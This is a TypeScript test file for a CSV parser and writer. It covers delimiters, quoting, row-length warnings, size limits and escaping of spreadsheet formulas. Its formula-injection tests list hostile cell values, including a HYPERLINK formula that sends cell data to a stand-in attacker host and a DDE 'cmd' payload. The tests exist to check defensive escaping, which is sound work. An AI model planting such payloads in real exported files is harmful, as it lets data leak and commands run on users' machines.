import { describe, expect, test } from 'vitest';
import { isJsonObject, type Json, type JsonObject } from '../../base/index.ts';
import type { Outcome } from '../../run/index.ts';
import { runCsv } from './csv.ts';

function csv(input: JsonObject, config: JsonObject = { header: true }): Outcome {
  return runCsv({ input, config });
}

function valueOf(outcome: Outcome): Json {
  if (!outcome.ok) throw new Error(outcome.error.message);
  return outcome.value;
}

describe('core:csv reads', () => {
  test('a header line into columns and maps of text', () => {
    expect(valueOf(csv({ text: 'sku,qty\nA-1,3\nB-2,"1,5"\n' }))).toEqual({
      columns: ['sku', 'qty'],
      rows: [
        { sku: 'A-1', qty: '3' },
        { sku: 'B-2', qty: '1,5' },
      ],
    });
  });

  test('a semicolon, a tab, a byte order mark and line ends of Windows without a setting', () => {
    expect(valueOf(csv({ text: '\uFEFFa;b\r\n1;2\r\n' }))).toEqual({ columns: ['a', 'b'], rows: [{ a: '1', b: '2' }] });
    expect(valueOf(csv({ text: 'a\tb\n1\t2' }))).toEqual({ columns: ['a', 'b'], rows: [{ a: '1', b: '2' }] });
  });

  test('rows as lists when there is no header', () => {
    expect(valueOf(csv({ text: '1,2\n3,4', header: false }))).toEqual({
      columns: ['column_1', 'column_2'],
      rows: [
        ['1', '2'],
        ['3', '4'],
      ],
    });
  });

  test('columns without a name, or with one twice, under names of their own', () => {
    expect(valueOf(csv({ text: 'a,,a\n1,2,3' }))).toEqual({
      columns: ['a', 'column_2', 'a_2'],
      rows: [{ a: '1', column_2: '2', a_2: '3' }],
    });
  });

  test('a column __proto__ as an ordinary one', () => {
    expect(JSON.stringify(valueOf(csv({ text: '__proto__,b\n1,2' })))).toContain('{"__proto__":"1","b":"2"}');
  });

  test('rows of another length with a warning that names the row', () => {
    const outcome = csv({ text: 'a,b\n1\n1,2,3' });
    expect(valueOf(outcome)).toMatchObject({
      rows: [
        { a: '1', b: null },
        { a: '1', b: '2' },
      ],
    });
    expect(outcome).toMatchObject({ warnings: [{ code: 'CSV_ROW_LENGTH' }] });
  });

  test('an empty text as no rows', () => {
    expect(valueOf(csv({ text: '' }))).toEqual({ columns: [], rows: [] });
  });

  test('nothing from a quote that is never closed', () => {
    expect(csv({ text: 'a,b\n"1,2' })).toMatchObject({
      ok: false,
      error: { code: 'VALIDATION_ERROR', details: { reason: 'quotes' } },
    });
  });
});

describe('core:csv writes', () => {
  test('maps by the columns they have, quoting what needs it', () => {
    const rows = [
      { a: 'x,y', b: 1 },
      { b: null, c: { d: true } },
    ];
    expect(valueOf(csv({ rows }))).toEqual({ text: 'a,b,c\r\n"x,y",1,\r\n,,"{""d"":true}"' });
  });

  test('chosen columns with another delimiter, without a header', () => {
    expect(valueOf(csv({ rows: [{ a: 1, b: 2 }], columns: ['b', 'a'], delimiter: ';', header: false }))).toEqual({
      text: '2;1',
    });
  });

  test('text that it reads back as it was', () => {
    const rows = [{ name: 'Ada "the first"\nLovelace', born: '1815' }];
    const written = valueOf(csv({ rows }));
    expect(isJsonObject(written) && valueOf(csv({ text: written.text ?? null }))).toMatchObject({ rows });
  });
});

describe('core:csv and spreadsheets', () => {
  const FORMULAS = [
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd|x',
    '-SUM(A1)',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '－A1',
  ];
  const PLAIN = [
    '-5',
    '+5',
    '-1.5e3',
    '-1.5E+3',
    '-',
    '-12 %',
    '+32 (0)470/12.34.56',
    '-1,234.50',
    'a=b',
    ' =',
    'x@y.z',
  ];

  test('what a spreadsheet would run is written as a text, in rows and header, and the warning says how often', () => {
    for (const text of FORMULAS) {
      const outcome = csv({ rows: [{ a: text }, [text]], columns: ['a'] });
      expect(outcome).toMatchObject({
        warnings: [{ code: 'CSV_FORMULAS', message: expect.stringMatching(/^2 fields/) }],
      });
      const again = valueOf(csv({ text: textOf(valueOf(outcome)) }));
      expect(again).toMatchObject({ rows: [{ a: `'${text}` }, { a: `'${text}` }] });
    }
    expect(valueOf(csv({ rows: [{ '=1+1': 1 }] }))).toEqual({ text: "'=1+1\r\n1" });
  });

  test('numbers, telephone numbers and dashes stay as they are, and so does everything where it is asked for', () => {
    for (const value of [...PLAIN, -5, -1.5e300]) {
      const outcome = csv({ rows: [{ a: value }] });
      expect(outcome).toMatchObject({ ok: true, warnings: [] });
      expect(valueOf(csv({ text: textOf(valueOf(outcome)) }))).toMatchObject({ rows: [{ a: String(value) }] });
    }
    for (const given of [{ input: 'keep' }, { config: 'keep' }, { input: 'keep', config: 'escape' }]) {
      const { input, config } = { input: undefined, config: undefined, ...given };
      const outcome = csv(
        { rows: [{ a: '=1+1' }], ...(input === undefined ? {} : { formulas: input }) },
        { header: true, ...(config === undefined ? {} : { formulas: config }) },
      );
      expect(outcome).toMatchObject({ value: { text: 'a\r\n=1+1' }, warnings: [] });
    }
  });
});

function textOf(value: Json): string {
  return isJsonObject(value) && typeof value.text === 'string' ? value.text : '';
}

describe('core:csv refuses more than 2,000,000 fields, or 100,000 columns', () => {
  test.each([
    ['in one line', ','.repeat(3e6)],
    ['as columns', 'a,'.repeat(200_000)],
    ['in all of them', 'a,b,c,d\n'.repeat(600_000)],
    ['that a header makes of short rows', `${'a,'.repeat(2_000)}\n${'1\n'.repeat(2_000)}`],
  ])('%s', (_, text) => {
    expect(csv({ text })).toMatchObject({
      error: { code: 'LIMIT_ERROR', details: { type: 'csv', reason: 'too_large' } },
    });
  });

  test('that keys make of rows', () => {
    const rows = Array.from({ length: 2_000 }, (_, index) => ({ [`k${index}`]: 1 }));
    expect(csv({ rows })).toMatchObject({ error: { code: 'LIMIT_ERROR', details: { reason: 'too_large' } } });
  });

  test('and names 90,000 columns that are called the same without delay', () => {
    const { length } = (valueOf(csv({ text: `${'a,'.repeat(90_000)}\n1` })) as { columns: string[] }).columns;
    expect(length).toBe(90_001);
  });
});

test('core:csv refuses both or neither of text and rows', () => {
  for (const input of [{}, { text: 'a', rows: [] }]) {
    expect(csv(input)).toMatchObject({ ok: false, error: { code: 'VALIDATION_ERROR' } });
  }
});
